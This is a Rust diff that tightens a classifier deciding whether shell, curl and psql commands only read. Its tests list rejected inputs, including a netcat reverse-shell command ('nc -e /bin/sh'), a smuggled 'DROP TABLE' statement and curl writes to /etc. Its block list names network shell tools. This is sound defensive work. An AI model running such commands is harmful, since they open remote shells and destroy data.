@@ -8,16 +8,12 @@ use super::shell::Command;
 const PROGRAMS: &[&str] = &[
     "cat",
     "head",
-    "tail",
     "grep",
     "egrep",
     "fgrep",
     "zgrep",
     "zcat",
-    "less",
     "wc",
-    "sort",
-    "uniq",
     "cut",
     "tr",
     "column",
@@ -32,19 +28,14 @@ const PROGRAMS: &[&str] = &[
     "pgrep",
     "id",
     "whoami",
-    "hostname",
-    "date",
     "uname",
-    "ping",
     "dig",
     "nslookup",
     "host",
     "netstat",
-    "ss",
     "lsof",
     "echo",
     "printf",
-    "jq",
     "test",
     "true",
     "nproc",
@@ -53,21 +44,13 @@ const PROGRAMS: &[&str] = &[
     "vmstat",
     "iostat",
     "mpstat",
-    "dmesg",
     "traceroute",
     "tracepath",
-    "mtr",
     "getent",
     "which",
     "pg_isready",
     "md5sum",
     "sha256sum",
-    "nvidia-smi",
-    "top",
-    "htop",
-    "fuser",
-    "telnet",
-    "nc",
 ];
 
 /// Tools whose first word after the flags says what they do, and the words that only read.
@@ -83,14 +66,12 @@ const VERBS: &[(&str, &[&str])] = &[
             "version",
             "api-resources",
             "cluster-info",
-            "auth",
         ],
     ),
     (
         "docker",
         &[
             "ps", "logs", "stats", "inspect", "images", "info", "version", "top", "port", "diff",
-            "events",
         ],
     ),
     (
@@ -110,17 +91,15 @@ const VERBS: &[(&str, &[&str])] = &[
             "cat",
         ],
     ),
-    ("journalctl", &[]),
     (
         "redis-cli",
         &[
             "ping", "info", "get", "lrange", "llen", "scan", "type", "ttl", "exists", "dbsize",
-            "hgetall", "hget", "smembers", "scard", "zrange", "zcard", "xlen", "xinfo", "slowlog",
-            "memory",
+            "hgetall", "hget", "smembers", "scard", "zrange", "zcard", "xlen",
         ],
     ),
-    ("git", &["log", "status", "diff", "show"]),
-    ("helm", &["list", "status", "history", "get"]),
+    ("git", &["log", "status", "show"]),
+    ("helm", &["list", "status", "history"]),
 ];
 
 /// Subcommand words that read in a tool oncall does not know (`vid-bench metrics`).
@@ -144,6 +123,9 @@ const READ_VERBS: &[&str] = &[
 ];
 const READ_PREFIXES: &[&str] = &["list-", "get-", "show-", "describe-"];
 
+/// Flags that keep a command running until it is stopped: as a check it could only time out.
+const FOLLOW: &[&str] = &["-f", "-F", "--follow", "-w", "--watch"];
+
 /// Whether every stage of a pipeline only reads.
 pub fn reads_only(command: &Command) -> bool {
     command.unread.is_none()
@@ -153,25 +135,84 @@ pub fn reads_only(command: &Command) -> bool {
         })
 }
 
-/// Whether one command's words only read.
+/// The short flags of a word, one by one: `-uo` → `u`, `o`.
+fn letters(arg: &str) -> impl Iterator<Item = char> + '_ {
+    arg.strip_prefix('-')
+        .filter(|rest| !rest.starts_with('-'))
+        .unwrap_or_default()
+        .chars()
+}
+
+fn has_letter(args: &[&str], letter: char) -> bool {
+    args.iter().any(|a| letters(a).any(|c| c == letter))
+}
+
+/// Whether one command's words only read. Anything not known to read is a change.
 pub fn argv_reads_only(argv: &[&str]) -> bool {
     let Some((&program, args)) = argv.split_first() else {
         return false;
     };
+    // A program named by a variable or a template could be anything.
+    if program.contains(['$', '{', '`']) {
+        return false;
+    }
     let program = program.rsplit('/').next().unwrap_or(program);
-    let verb = args.iter().find(|a| !a.starts_with('-')).copied();
+    let positional: Vec<&str> = args
+        .iter()
+        .copied()
+        .filter(|a| !a.starts_with('-'))
+        .collect();
+    let verb = positional.first().copied();
+    let any = |flags: &[&str]| {
+        args.iter().any(|a| {
+            flags
+                .iter()
+                .any(|f| a == f || a.starts_with(&format!("{f}=")))
+        })
+    };
     match program {
-        // Flags that write or act: `tail -f` never ends, the others change things.
-        "journalctl" => !args
-            .iter()
-            .any(|a| a.starts_with("--vacuum") || *a == "--rotate" || *a == "--flush"),
+        "tail" => !any(FOLLOW) && !has_letter(args, 'f') && !has_letter(args, 'F'),
+        "journalctl" => {
+            !any(&[
+                "--follow",
+                "--rotate",
+                "--flush",
+                "--sync",
+                "--relinquish-var",
+                "--setup-keys",
+            ]) && !has_letter(args, 'f')
+                && !args.iter().any(|a| a.starts_with("--vacuum"))
+        }
+        "sort" => !has_letter(args, 'o') && !any(&["--output"]),
+        // `uniq IN OUT` writes OUT.
+        "uniq" => positional.len() <= 1,
+        "date" => {
+            !has_letter(args, 's')
+                && !any(&["--set"])
+                && positional.iter().all(|p| p.starts_with('+'))
+        }
+        "hostname" => positional.is_empty() && !has_letter(args, 'F') && !any(&["--file"]),
+        "dmesg" => {
+            !args.iter().any(|a| letters(a).any(|c| "CcDEn".contains(c)))
+                && !any(&[
+                    "--clear",
+                    "--read-clear",
+                    "--console-off",
+                    "--console-on",
+                    "--console-level",
+                ])
+        }
+        "ss" => !has_letter(args, 'K') && !any(&["--kill"]),
+        "ping" => has_letter(args, 'c') || any(&["--count"]),
+        "top" => has_letter(args, 'b') && has_letter(args, 'n'),
+        "jq" => !any(&["--rawfile", "--slurpfile"]),
         "nvidia-smi" => args.iter().all(|a| {
             ["-q", "--query", "-L", "--list-gpus", "-i", "--id"].contains(a)
                 || a.starts_with("--query-")
                 || a.starts_with("--format")
                 || a.chars().all(|c| c.is_ascii_digit())
         }),
-        "fuser" => !args.iter().any(|a| a.starts_with('-') && a.contains('k')),
+        "fuser" => !has_letter(args, 'k') && !any(&["--kill"]),
         "curl" => curl_reads(args),
         "find" => !args.iter().any(|a| {
             [
@@ -184,11 +225,21 @@ pub fn argv_reads_only(argv: &[&str]) -> bool {
         "docker" if verb == Some("compose") => {
             argv_reads_only(&[&["docker-compose"], &args[1..]].concat())
         }
-        "sort" | "uniq" if args.iter().any(|a| a.starts_with("-o") || *a == "--output") => false,
+        "docker" if verb == Some("stats") => any(&["--no-stream"]),
+        "redis-cli"
+            if matches!(
+                verb.map(str::to_ascii_lowercase).as_deref(),
+                Some("slowlog" | "memory" | "client")
+            ) =>
+        {
+            false
+        }
+        "git" if any(&["--output"]) => false,
         _ if PROGRAMS.contains(&program) => true,
         _ => match VERBS.iter().find(|(p, _)| *p == program) {
             Some((_, verbs)) => {
                 verb.is_some_and(|v| verbs.contains(&v.to_ascii_lowercase().as_str()))
+                    && !any(FOLLOW)
             }
             // Asking a tool for its version reads.
             None if !args.is_empty()
@@ -204,9 +255,10 @@ pub fn argv_reads_only(argv: &[&str]) -> bool {
                     && verb.is_some_and(|v| {
                         READ_VERBS.contains(&v) || READ_PREFIXES.iter().any(|p| v.starts_with(p))
                     })
-                    && !args
-                        .iter()
-                        .any(|a| ["--force", "-f", "--fix", "--delete", "--yes", "-y"].contains(a))
+                    && !any(&[
+                        "--force", "-f", "--fix", "--delete", "--yes", "-y", "--follow", "-w",
+                        "--watch",
+                    ])
             }
         },
     }
@@ -217,38 +269,57 @@ fn is_known_writer(program: &str) -> bool {
     [
         "rm", "mv", "cp", "dd", "mkfs", "kill", "pkill", "killall", "reboot", "shutdown", "chmod",
         "chown", "tee", "truncate", "sed", "awk", "perl", "python", "python3", "sh", "bash",
-        "xargs", "sudo", "su", "make", "apt", "apt-get", "yum", "pip", "npm", "crontab",
-        "iptables", "mount", "umount", "ln", "touch", "mkdir", "rmdir", "find", "env", "nohup",
-        "timeout", "ssh", "scp", "rsync",
+        "xargs", "sudo", "su", "make", "apt", "apt-get", "yum", "pip", "npm", "go", "cargo",
+        "crontab", "iptables", "mount", "umount", "ln", "touch", "mkdir", "rmdir", "env", "nohup",
+        "timeout", "ssh", "scp", "rsync", "nc", "ncat", "netcat", "telnet", "socat",
     ]
     .contains(&program)
 }
 
-/// A curl that only GETs or HEADs and writes nothing to a file.
+/// A curl that only GETs or HEADs, with flags known to write nothing and send no body.
 fn curl_reads(args: &[&str]) -> bool {
+    const BOOLS: &str = "sSfLkviIg";
+    const WITH_VALUE: &[&str] = &[
+        "-m",
+        "--max-time",
+        "--connect-timeout",
+        "-H",
+        "--header",
+        "-A",
+        "--user-agent",
+        "--retry",
+        "-w",
+        "--write-out",
+    ];
+    const LONG: &[&str] = &[
+        "--silent",
+        "--show-error",
+        "--fail",
+        "--location",
+        "--insecure",
+        "--verbose",
+        "--include",
+        "--head",
+        "--globoff",
+        "--compressed",
+    ];
     let mut i = 0;
     while i < args.len() {
         let a = args[i];
         if ["-X", "--request"].contains(&a) {
-            if !args
-                .get(i + 1)
-                .is_some_and(|m| ["GET", "HEAD"].contains(&m.to_ascii_uppercase().as_str()))
-            {
+            let method = args.get(i + 1).map(|m| m.to_ascii_uppercase());
+            if !matches!(method.as_deref(), Some("GET" | "HEAD")) {
                 return false;
             }
             i += 1;
-        } else if a.starts_with("-d")
-            || a.starts_with("--data")
-            || a.starts_with("-F")
-            || a.starts_with("--form")
-            || a.starts_with("-T")
-            || a.starts_with("--upload")
-            || a.starts_with("-o")
-            || a.starts_with("--output")
-            || a == "-O"
-            || a.starts_with("--remote-name")
-            || (a.starts_with("-X") && !["-XGET", "-XHEAD"].contains(&a))
-        {
+        } else if WITH_VALUE.contains(&a) {
+            i += 1;
+        } else if a.starts_with("--") {
+            let name = a.split('=').next().unwrap_or(a);
+            if !LONG.contains(&name) && !WITH_VALUE.contains(&name) {
+                return false;
+            }
+        } else if a.starts_with('-') && !a[1..].chars().all(|c| BOOLS.contains(c)) {
             return false;
         }
         i += 1;
@@ -256,21 +327,37 @@ fn curl_reads(args: &[&str]) -> bool {
     true
 }
 
-/// A psql whose statement is a SELECT or SHOW calling no function outside a short list of
-/// pure ones (a SELECT can call a function that writes).
+/// A psql with one statement, a SELECT or SHOW that calls no function outside a short list of
+/// pure ones (a SELECT can call a function that writes), and no output file or script.
 fn psql_reads(args: &[&str]) -> bool {
-    let Some(at) = args.iter().position(|a| *a == "-c" || *a == "--command") else {
-        return false;
-    };
-    let Some(sql) = args.get(at + 1) else {
-        return false;
-    };
-    sql_reads(sql)
+    let mut sql = None;
+    let mut i = 0;
+    while i < args.len() {
+        match args[i] {
+            "-c" | "--command" => {
+                if sql.is_some() {
+                    return false;
+                }
+                sql = args.get(i + 1).copied();
+                i += 1;
+            }
+            "-h" | "--host" | "-p" | "--port" | "-U" | "--username" | "-d" | "--dbname" => i += 1,
+            "-X" | "-x" | "-t" | "-A" | "-q" | "--no-psqlrc" => {}
+            a if a.starts_with('-') => return false,
+            _ => {}
+        }
+        i += 1;
+    }
+    sql.is_some_and(sql_reads)
 }
 
 pub fn sql_reads(sql: &str) -> bool {
     let lower = sql.trim().trim_end_matches(';').to_ascii_lowercase();
-    if lower.contains(';') || !(lower.starts_with("select ") || lower.starts_with("show ")) {
+    // Quoted names hide what is called; `\` starts a psql command (`\!` runs a shell).
+    if lower.contains([';', '"', '\\'])
+        || !(lower.starts_with("select ") || lower.starts_with("show "))
+        || lower.split_whitespace().any(|w| w == "into")
+    {
         return false;
     }
     const PURE: &[&str] = &[
@@ -305,18 +392,20 @@ pub fn sql_reads(sql: &str) -> bool {
         "filter",
         "over",
     ];
-    let bytes: Vec<char> = lower.chars().collect();
+    let chars: Vec<char> = lower.chars().collect();
     let mut word = String::new();
-    for (i, &c) in bytes.iter().enumerate() {
+    for (i, &c) in chars.iter().enumerate() {
         if c.is_ascii_alphanumeric() || c == '_' {
             word.push(c);
             continue;
         }
-        let called = c == '(' || (c == ' ' && bytes.get(i + 1) == Some(&'('));
+        let called = c == '(' || (c == ' ' && chars.get(i + 1) == Some(&'('));
         if called && !word.is_empty() && !PURE.contains(&word.as_str()) {
             return false;
         }
-        word.clear();
+        if !(c == ' ' && chars.get(i + 1) == Some(&'(')) {
+            word.clear();
+        }
     }
     true
 }
@@ -335,6 +424,15 @@ mod tests {
             &["grep", "ERROR", "/var/log/x.log"],
             &["curl", "-s", "http://x/health"],
             &["psql", "-c", "SELECT count(*) FROM t"],
+            &[
+                "psql",
+                "-c",
+                "SELECT count (*) FROM pg_stat_activity WHERE state = 'active'",
+            ],
+            &["ping", "-c", "3", "db"],
+            &["tail", "-100", "/var/log/x"],
+            &["date", "+%s"],
+            &["docker", "stats", "--no-stream"],
         ] {
             assert!(argv_reads_only(argv), "{argv:?}");
         }
@@ -351,6 +449,39 @@ mod tests {
             &["fuser", "-k", "/dev/nvidia0"],
             &["journalctl", "--vacuum-time=1d"],
             &["rm", "list"],
+            // What a review found passing for reads.
+            &["psql", "-c", "SELECT 1", "-c", "DROP TABLE users"],
+            &[
+                "psql",
+                "-X",
+                "-c",
+                "SELECT \"pg_terminate_backend\"(pid) FROM pg_stat_activity",
+            ],
+            &["psql", "-c", "SELECT * INTO backup FROM users"],
+            &["psql", "-o", "/tmp/f", "-c", "SELECT 1"],
+            &["curl", "-so", "/etc/x", "http://x"],
+            &["curl", "-sO", "http://x/f"],
+            &["curl", "--json", "{}", "http://x"],
+            &["curl", "-D", "/tmp/h", "http://x"],
+            &["curl", "-K", "cfg"],
+            &["sort", "-uo", "f", "g"],
+            &["sort", "--output=f", "g"],
+            &["uniq", "in", "out"],
+            &["date", "-s", "2020-01-01"],
+            &["hostname", "evil"],
+            &["dmesg", "-C"],
+            &["ss", "-K"],
+            &["nc", "-e", "/bin/sh", "h", "1"],
+            &["kubectl", "auth", "reconcile", "-f", "x"],
+            &["redis-cli", "slowlog", "reset"],
+            &["git", "diff", "--output=f"],
+            &["go", "get", "x"],
+            &["$TOOL", "status"],
+            &["tail", "-f", "/var/log/x"],
+            &["journalctl", "-f"],
+            &["kubectl", "logs", "-f", "deploy/x"],
+            &["ping", "host"],
+            &["docker", "stats"],
         ] {
             assert!(!argv_reads_only(argv), "{argv:?}");
         }
